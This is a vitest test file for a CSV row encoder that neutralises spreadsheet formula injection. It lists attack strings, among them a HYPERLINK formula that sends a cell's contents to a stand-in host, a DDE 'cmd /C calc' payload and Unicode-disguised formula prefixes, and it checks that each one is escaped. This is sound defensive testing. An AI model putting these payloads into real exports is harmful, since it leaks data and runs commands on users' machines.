import { expect, it } from 'vitest';
import { csvRow } from './csv.ts';

const attacks = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttab',
  '\rreturn',
  '\nline',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
] as const;

/** A cell as a reader of CSV takes it from its row. */
const read = (row: string): string => {
  const cell = row.slice(0, -2);
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
};

it.each(attacks)('%j cannot run: a reader finds it behind an apostrophe', (text) => {
  expect(read(csvRow([text]))).toBe(`'${text}`);
});

it.each([
  '',
  'ann',
  '192.0.2.7',
  '::1',
  '2026-11-23T14:18:47.630Z',
  '{"fields":["="]}',
  '\u2212 1',
  'a=b',
  "'=1",
])('%j stays as it is', (text) => {
  expect(read(csvRow([text]))).toBe(text);
});

it('is quoted as RFC 4180 has it', () => {
  expect(csvRow(['a', 'b,c', 'say "so"', 'two\r\nlines', 'one\nmore', ''])).toBe(
    'a,"b,c","say ""so""","two\r\nlines","one\nmore",\r\n',
  );
});

it('an apostrophe does not break out of the quotes', () => {
  expect(csvRow(['="a",b', '=c'])).toBe('"\'=""a"",b",\'=c\r\n');
});
